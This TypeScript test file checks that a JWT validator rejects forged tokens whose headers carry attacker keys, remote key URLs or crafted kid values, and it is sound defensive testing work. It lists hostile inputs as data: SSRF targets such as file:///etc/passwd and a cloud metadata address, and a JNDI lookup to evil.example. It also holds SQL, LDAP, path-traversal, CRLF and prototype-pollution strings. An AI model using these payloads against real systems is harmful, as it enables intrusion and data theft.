/** Attacks on the choice of the key: keys and addresses in the header, kid tricks, other issuers (7 to 9, 11 and 12). */

import assert from "node:assert/strict";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { test } from "node:test";
import { createValidator, type Validator } from "countersign";
import { testAttacks } from "../kit/attack-table.ts";
import { expectAcceptance, expectRefusal } from "../kit/expect-verdict.ts";
import {
  type Claims,
  createHeader,
  createScene,
  describeIssuer,
  issueHeader,
  issueToken,
  NOW_SECONDS,
} from "../kit/scene.ts";
import { createSigningKey, sharedKey } from "../kit/signing-key.ts";

const trusted = sharedKey("ES256");
const stranger = createSigningKey("ES256", { keyId: "stranger" });

function forge(header: Claims): string {
  return issueToken({ key: stranger, header });
}

testAttacks("J7 a key in the header (jwk) is never used", [
  {
    name: "the attacker's jwk beside the trusted kid",
    token: () => forge({ kid: trusted.keyId, jwk: stranger.publicJwk }),
    reason: "signature_invalid",
  },
  {
    name: "the attacker's jwk that claims the trusted kid",
    token: () => forge({ kid: trusted.keyId, jwk: { ...stranger.publicJwk, kid: trusted.keyId } }),
    reason: "signature_invalid",
  },
  {
    name: "the attacker's jwk without a kid",
    token: () => forge({ kid: undefined, jwk: stranger.publicJwk }),
    reason: "signature_invalid",
  },
  {
    name: "the attacker's jwk with the attacker's kid",
    token: () => forge({ jwk: stranger.publicJwk }),
    reason: "key_unknown",
  },
]);

const ADDRESSES = [
  "file:///etc/passwd",
  'data:application/json,{"keys":[]}',
  "gopher://127.0.0.1:70/x",
  "ftp://127.0.0.1/x",
  "http://169.254.169.254/latest/meta-data/",
  "http://[::1]/jwks",
  "http://[::ffff:127.0.0.1]/jwks",
  "http://2130706433/jwks",
  "https://issuer.example.evil.example/jwks",
];

testAttacks(
  "J8 an address in the header (jku, x5u) is never asked",
  ADDRESSES.flatMap((address) =>
    ["jku", "x5u"].map((name) => ({
      name: `${name} ${address}`,
      token: () => forge({ kid: "elsewhere", [name]: address }),
      reason: "key_unknown" as const,
    })),
  ),
);

test("J8 a server named by jku and x5u counts no request", async () => {
  let requests = 0;
  const server = createServer((_request, response) => {
    requests++;
    response.end(JSON.stringify({ keys: [stranger.publicJwk] }));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  try {
    const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/jwks`;
    const validator = createScene();
    for (const kid of [undefined, trusted.keyId, stranger.keyId]) {
      const verdict = await validator.validate(forge({ kid, jku: address, x5u: address, iss: address }));
      assert.equal(verdict.ok, false);
    }
    assert.equal(requests, 0);
  } finally {
    await new Promise((resolve) => server.close(resolve));
  }
});

testAttacks("J9 a certificate in the header (x5c, x5t) is never used", [
  {
    name: "a self-signed x5c beside the trusted kid",
    token: () => forge({ kid: trusted.keyId, x5c: ["MIIBszCCAVmgAwIBAgIUA"] }),
    reason: "signature_invalid",
  },
  {
    name: "an x5c without a kid",
    token: () => forge({ kid: undefined, x5c: ["MIIBszCCAVmgAwIBAgIUA"] }),
    reason: "signature_invalid",
  },
  {
    name: "x5t and x5t#S256 of another certificate",
    token: () => forge({ kid: undefined, x5t: "A".repeat(27), "x5t#S256": "A".repeat(43) }),
    reason: "signature_invalid",
  },
]);

testAttacks("J11 a kid finds a key of the set or nothing", [
  ...[
    "../../dev/null",
    "../../../../../proc/sys/kernel/randomize_va_space",
    "' UNION SELECT 'key' --",
    "*)(uid=*))(|(uid=*",
    "${jndi:ldap://evil.example/a}",
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "0",
    "ES256",
    " es256",
    "es256 ",
    "e\u0301s256",
    "k".repeat(256),
  ].map((kid) => ({
    name: JSON.stringify(kid.slice(0, 40)),
    token: () => issueToken({ header: { kid } }),
    reason: "key_unknown" as const,
  })),
  ...[
    ["NUL", "es256\u0000"],
    ["a line end", "es256\r\nx-injected: 1"],
    ["an escape sequence", "\u001b[2J"],
    ["a C1 control", "\u0085"],
    ["257 characters", "k".repeat(257)],
    ["nothing", ""],
    ["an object", { kid: "es256" }],
    ["an array", ["es256"]],
    ["a number", 1],
    ["true", true],
    ["null", null],
  ].map(([name, kid]) => ({
    name: String(name),
    token: () => issueToken({ header: { kid } }),
    reason: "malformed_token" as const,
  })),
  {
    name: "64 KiB",
    token: () => issueToken({ header: { kid: "k".repeat(65_536) } }),
    reason: "token_too_large",
  },
]);

const OTHER_ISSUER = "https://other.example/";

/** Two issuers that publish different keys under the same kid. */
function createTwoIssuers(): {
  readonly validator: Validator;
  readonly tokenOf: (key: "a" | "b", iss: string) => string;
} {
  const keys = {
    a: createSigningKey("ES256", { keyId: "same" }),
    b: createSigningKey("ES256", { keyId: "same" }),
  };
  const validator = createValidator({
    issuers: [
      describeIssuer({ keys: [keys.a], issuer: { name: "a" } }),
      describeIssuer({ keys: [keys.b], issuer: { issuer: OTHER_ISSUER, name: "b" } }),
    ],
    clock: () => NOW_SECONDS * 1000,
  });
  return { validator, tokenOf: (key, iss) => issueToken({ key: keys[key], claims: { iss } }) };
}

test("J12 issuers that share a kid verify their own tokens only, in whichever order they come", async () => {
  const own = "https://issuer.example/";
  for (const primedFirst of ["a", "b"] as const) {
    const { validator, tokenOf } = createTwoIssuers();
    const [first, second] = primedFirst === "a" ? [own, OTHER_ISSUER] : [OTHER_ISSUER, own];
    const other = primedFirst === "a" ? "b" : "a";
    await expectAcceptance(validator, tokenOf(primedFirst, first));
    await expectRefusal(validator, tokenOf(primedFirst, second), "signature_invalid");
    const accepted = await expectAcceptance(validator, tokenOf(other, second));
    assert.equal(accepted.token.issuer, other);
    await expectRefusal(validator, tokenOf(other, first), "signature_invalid");
  }
});

test("J12 one header text under two issuers is verified under each by its own key", async () => {
  const { validator, tokenOf } = createTwoIssuers();
  // The header is remembered after the first success: memory must not carry trust from one issuer to the other.
  const [headerOfA] = tokenOf("a", "https://issuer.example/").split(".");
  const [headerOfB] = tokenOf("b", OTHER_ISSUER).split(".");
  assert.equal(headerOfA, headerOfB);
  await expectAcceptance(validator, tokenOf("a", "https://issuer.example/"));
  await expectRefusal(validator, tokenOf("a", OTHER_ISSUER), "signature_invalid");
});

test("J11 a kid named like a member of every object finds a published key of that name", async () => {
  for (const keyId of ["__proto__", "constructor", "toString"]) {
    const key = createSigningKey("ES256", { keyId });
    const accepted = await expectAcceptance(createScene({ keys: [key] }), issueToken({ key }));
    assert.equal(accepted.token.keyId, keyId);
  }
});

test("J7 a header without kid is verified by the issuer's own keys of its algorithm, four at most", async () => {
  const keys = Array.from({ length: 5 }, (_, index) => createSigningKey("ES256", { keyId: `k${index}` }));
  const last = keys[3] ?? trusted;
  const token = issueHeader(createHeader(last, { kid: undefined }), last);
  await expectAcceptance(createScene({ keys: keys.slice(0, 4) }), token);
  await expectRefusal(createScene({ keys }), token, "key_unknown");
});
